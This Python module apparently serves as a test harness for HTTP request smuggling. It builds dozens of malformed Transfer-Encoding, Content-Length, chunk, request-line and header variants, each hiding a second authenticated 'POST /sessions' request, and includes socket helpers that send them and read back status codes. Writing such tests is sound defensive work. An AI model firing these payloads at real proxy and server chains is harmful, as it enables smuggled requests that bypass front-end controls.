"""Messages that two readers may end in different places, each with a request hidden in it.

Whoever takes the framing the other way than the sender's proxy did, carries out the hidden one.
"""

import socket
from contextlib import suppress
from dataclasses import dataclass


@dataclass(frozen=True)
class Smuggler:
    """All is right with what it sends but for one thing; with the hidden request, all is."""

    host: str
    authorization: str
    title: str = "smuggled"
    """Of the session that the hidden request makes."""

    @property
    def hidden(self) -> bytes:
        body = b'{"title":"%s"}' % self.title.encode()
        return self._head(b"Content-Length: %d" % len(body)) + body

    def messages(self) -> dict[bytes, bytes]:
        """By the one thing that is wrong."""
        return {
            **self._two_lengths(),
            **{lines: self._head(lines) + b"0\r\n\r\n" + self.hidden for lines in CODINGS},
            **{lines: self._head(lines) + self.hidden for lines in LENGTHS},
            **{body: self._head(CHUNKED) + body + self.hidden for body in CHUNKS},
            **{line: self._begun_with(line) + self.hidden for line in REQUEST_LINES},
            **self._headers(),
            b"chunks in HTTP/1.0": self._begun_with(b"POST /sessions HTTP/1.0", CHUNKED)
            + b"2\r\n{}\r\n0\r\n\r\n"
            + self.hidden,
        }

    def bodies(self) -> dict[bytes, bytes]:
        """Requests with nothing wrong at all, whose body looks like one."""
        length = b"Content-Length: %d" % len(self.hidden)
        begun = {line: self._begun_with(line, length) + self.hidden for line in BODY_LINES}
        chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(self.hidden), self.hidden)
        offers = {line: self._head(line, length) + self.hidden for line in OFFERS}
        return {**begun, **offers, b"chunk": self._head(CHUNKED) + chunk}

    def _head(self, *lines: bytes) -> bytes:
        return self._begun_with(b"POST /sessions HTTP/1.1", *lines)

    def _begun_with(self, line: bytes, *lines: bytes) -> bytes:
        return b"\r\n".join([
            line,
            b"Host: " + self.host.encode(),
            b"Authorization: " + self.authorization.encode(),
            b"Content-Type: application/json",
            *lines,
            b"",
            b"",
        ])  # fmt: skip

    def _two_lengths(self) -> dict[bytes, bytes]:
        """One takes the chunks for the end, the other what is announced, of all or of nothing."""
        found = {}
        for coding in (CHUNKED, *CODINGS):
            body = b"0\r\n\r\n" + self.hidden
            whole, none = b"Content-Length: %d" % len(body), b"Content-Length: 0"
            found[coding + b" and all"] = self._head(whole, coding) + body
            found[coding + b" and nothing"] = self._head(coding, none) + body
        return found

    def _headers(self) -> dict[bytes, bytes]:
        host = b"Host: " + self.host.encode()
        token = b"Authorization: " + self.authorization.encode()
        head = self._head(b"Content-Length: 0")
        return {
            b"a second Host": self._head(host, b"Content-Length: 0") + self.hidden,
            b"another Host": self._head(b"Host: other.example") + self.hidden,
            b"no Host": head.replace(host + b"\r\n", b"") + self.hidden,
            b"a second Authorization": self._head(token, b"Content-Length: 0") + self.hidden,
            b"lines without CR": head.replace(b"\r\n", b"\n") + self.hidden,
            b"no line with CR": (head + self.hidden).replace(b"\r\n", b"\n"),
            b"lines without LF": head.replace(b"\r\n", b"\r") + self.hidden,
            b"two CR": head.replace(b"\r\n", b"\r\r\n") + self.hidden,
            b"a head that ends without CR": head[:-4] + b"\n\n" + self.hidden,
        }


CHUNKED = b"Transfer-Encoding: chunked"

CODINGS = (
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X:\x00\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
)

LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: 10",
    b"Content-Length: 10\r\nContent-Length: 0",
    b"Content-Length: 0, 10",
    b"Content-Length: +0",
    b"Content-Length: -0",
    b"Content-Length: -1",
    b"Content-Length: 0x0",
    b"Content-Length: 0_0",
    b"Content-Length: 0.0",
    b"Content-Length: 1e1",
    b"Content-Length: 0 0",
    b"Content-Length: 0;",
    b"Content-Length:",
    "Content-Length: \N{FULLWIDTH DIGIT ZERO}".encode(),
    "Content-Length: \N{ARABIC-INDIC DIGIT ZERO}".encode(),
    b"Content-Length: 99999999999999999999999999",
    b"Content-Length : 0",
    b"Content Length: 0",
    b"Content-Length: 0\x00",
    b"Content-Length: 0\nX: y",
    b"Content-Length: 0\rX: y",
)

CHUNKS = (
    b"0x2\r\n{}\r\n0\r\n\r\n",
    b"+2\r\n{}\r\n0\r\n\r\n",
    b"-2\r\n{}\r\n0\r\n\r\n",
    b"2_\r\n{}\r\n0\r\n\r\n",
    b" 2\r\n{}\r\n0\r\n\r\n",
    b"\r\n2\r\n{}\r\n0\r\n\r\n",
    b"2\n{}\r\n0\r\n\r\n",
    b"2\r\n{}\n0\n\n",
    b"2;a\nb\r\n{}\r\n0\r\n\r\n",
    b"2\r\n{}}\r\n0\r\n\r\n",
    b"2\r\n{}0\r\n\r\n",
    b"100000000000000000002\r\n{}\r\n0\r\n\r\n",
    b"g\r\n{}\r\n0\r\n\r\n",
    b"2\r\n{}\r\n0\r\nX: y\nZ: y\r\n\r\n",
    b"2\r\n{}\r\n0\r\n X: y\r\n\r\n",
    b"2\r\n{}\r\n0\r\nX : y\r\n\r\n",
)

REQUEST_LINES = (
    b"POST /sessions",
    b"POST /sessions HTTP/1.0\r\n" + CHUNKED,
    b"POST /sessions HTTP/2.0",
    b"POST /sessions HTTP/11",
    b"POST /sessions http/1.1",
    b"POST /sessions HTTP/1.1 ",
    b"POST  /sessions HTTP/1.1",
    b"POST\t/sessions\tHTTP/1.1",
    b" POST /sessions HTTP/1.1",
    b"POST /sessions\x00 HTTP/1.1",
    b"POST sessions HTTP/1.1",
    b"POST * HTTP/1.1",
    b"POST http://other.example/sessions HTTP/1.1",
    b"CONNECT other.example:80 HTTP/1.1",
    b"PRI * HTTP/2.0",
)

BODY_LINES = (
    b"GET /sessions HTTP/1.1",
    b"HEAD /sessions HTTP/1.1",
    b"OPTIONS /sessions HTTP/1.1",
    b"OPTIONS * HTTP/1.1",
    b"DELETE /sessions/x HTTP/1.1",
    b"POST /nothing HTTP/1.1",
    b"PUT /sessions HTTP/1.1",
    b"POST /sessions HTTP/1.1",
)

OFFERS = (
    b"Connection: Upgrade\r\nUpgrade: websocket",
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
    b"Connection: Content-Length",
    b"Connection: Host",
    b"Expect: 100-continue",
    b"Expect: something",
    b"Trailer: Content-Length",
    b"TE: trailers, chunked",
)


def answers(connection: socket.socket, sent: bytes) -> bytes:
    """All that comes for it until the connection ends."""
    received = b""
    with suppress(ConnectionError):
        connection.sendall(sent)
        while piece := connection.recv(1 << 16):
            received += piece
    return received


def statuses(answer: bytes) -> list[int]:
    lines = answer.split(b"\r\n")
    lines += [line[line.rindex(b"HTTP/1.1 ") :] for line in lines if b"}HTTP/1.1 " in line]
    return [int(line.split()[1]) for line in lines if line.startswith(b"HTTP/1.1 ")]
